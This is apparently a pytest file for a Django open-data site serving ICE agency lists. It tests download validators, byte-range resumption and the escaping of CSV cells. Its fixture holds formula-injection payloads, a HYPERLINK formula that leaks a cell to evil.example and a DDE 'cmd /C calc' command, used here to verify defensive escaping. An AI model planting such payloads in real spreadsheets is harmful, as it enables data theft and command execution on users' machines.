"""The downloads as a client gets them: validators, 304s and byte ranges (so a large file is
checked cheaply and resumed, never lost to a cut connection), and CSV cells that a spreadsheet
would run as formulas escaped. On one real ICE list, ingested into a small database."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from django.test import Client

from deputized.archive.ingest.run import run
from deputized.archive.models import SheetRow
from deputized.opendata.build import downloads_build

pytestmark = pytest.mark.django_db

ONE_FILE = "2026-04-30am_participatingAgencies04302026am.xlsx"


@pytest.fixture
def built(snapshots_dir, settings, tmp_path) -> Path:
    settings.OPENDATA_DIR = tmp_path / "downloads"
    settings.OPENDATA_AUTO_BUILD = False
    run(paths=[snapshots_dir / ONE_FILE])
    downloads_build()
    return settings.OPENDATA_DIR


@pytest.fixture
def client_() -> Client:
    return Client(HTTP_HOST="127.0.0.1")


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_a_download_has_validators_and_answers_304(built, client_):
    whole = client_.get("/downloads/rows.json")
    assert whole.status_code == 200 and whole["Accept-Ranges"] == "bytes"
    content = body(whole)
    assert content == (built / "rows.json").read_bytes()
    etag, modified = whole["ETag"], whole["Last-Modified"]
    assert etag.startswith('"') and modified.endswith("GMT")
    again = client_.get("/downloads/rows.json", HTTP_IF_NONE_MATCH=etag)
    assert again.status_code == 304 and again["ETag"] == etag
    since = client_.get("/downloads/rows.json", HTTP_IF_MODIFIED_SINCE=modified)
    assert since.status_code == 304
    assert client_.get("/downloads/rows.json", HTTP_IF_NONE_MATCH='"other"').status_code == 200


def test_a_cut_download_is_resumed_with_a_range(built, client_):
    """What a client (curl -C -, a browser, wget -c) does after losing the connection."""
    full = (built / "rows.json").read_bytes()
    size = len(full)
    cut = size // 3
    first = client_.get("/downloads/rows.json")
    resumed = client_.get(
        "/downloads/rows.json", HTTP_RANGE=f"bytes={cut}-", HTTP_IF_RANGE=first["ETag"]
    )
    assert resumed.status_code == 206
    assert resumed["Content-Range"] == f"bytes {cut}-{size - 1}/{size}"
    assert int(resumed["Content-Length"]) == size - cut
    assert body(first)[:cut] + body(resumed) == full
    middle = client_.get("/downloads/rows.json", HTTP_RANGE="bytes=10-19")
    assert middle.status_code == 206 and body(middle) == full[10:20]
    tail = client_.get("/downloads/rows.json", HTTP_RANGE="bytes=-5")
    assert (
        body(tail) == full[-5:] and tail["Content-Range"] == f"bytes {size - 5}-{size - 1}/{size}"
    )


def test_a_range_on_a_changed_file_or_outside_it(built, client_):
    full = (built / "rows.json").read_bytes()
    # If-Range with an old tag: the file changed, so the whole new file, not a piece of it.
    stale = client_.get("/downloads/rows.json", HTTP_RANGE="bytes=100-", HTTP_IF_RANGE='"old"')
    assert stale.status_code == 200 and body(stale) == full
    outside = client_.get("/downloads/rows.json", HTTP_RANGE=f"bytes={len(full)}-")
    assert outside.status_code == 416 and outside["Content-Range"] == f"bytes */{len(full)}"
    # Several ranges, or a unit that is not bytes: the whole file (allowed by RFC 9110).
    several = client_.get("/downloads/rows.json", HTTP_RANGE="bytes=0-1,5-6")
    assert several.status_code == 200 and body(several) == full


FORMULAS = {
    "agency": '=HYPERLINK("https://evil.example/x?"&A1,"MOA, on ICE\'s site")',
    "county": "@SUM(1+9)*cmd|' /C calc'!A0",
    "signed_raw": "+1 919-555-0100",
    "agency_type": "-2+3",
}


def test_csv_cells_a_spreadsheet_would_run_are_escaped_json_keeps_them(snapshots_dir, settings):
    """A real row of ICE's list, with cells as an altered sheet would carry them."""
    run(paths=[snapshots_dir / ONE_FILE])
    row = SheetRow.objects.order_by("publication_id", "row").first()
    plain = SheetRow.objects.order_by("publication_id", "row")[1]
    SheetRow.objects.filter(pk=row.pk).update(**FORMULAS)
    folder = settings.OPENDATA_DIR
    downloads_build()
    with (folder / "rows.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    hostile = next(r for r in rows if r["source_row"] == str(row.row))
    assert hostile["agency"] == "'" + FORMULAS["agency"]
    assert hostile["county"] == "'" + FORMULAS["county"]
    assert hostile["signed_as_printed"] == "'" + FORMULAS["signed_raw"]
    assert hostile["agency_type"] == "'" + FORMULAS["agency_type"]
    untouched = next(r for r in rows if r["source_row"] == str(plain.row))
    assert untouched["agency"] == plain.agency and not untouched["agency"].startswith("'")
    assert untouched["source_row"].isdigit()  # numbers are never prefixed
    # No text cell of any CSV download starts a formula.
    for path in folder.glob("*.csv"):
        for record in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            assert not [cell for cell in record if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    # The JSON and Parquet files carry the values as they are (no spreadsheet runs them).
    items = json.loads((folder / "rows.json").read_text(encoding="utf-8"))
    assert next(i for i in items if i["source"]["row"] == row.row)["agency"] == FORMULAS["agency"]
    table = pq.read_table(folder / "rows.parquet").to_pylist()
    assert FORMULAS["county"] in {record["county"] for record in table}
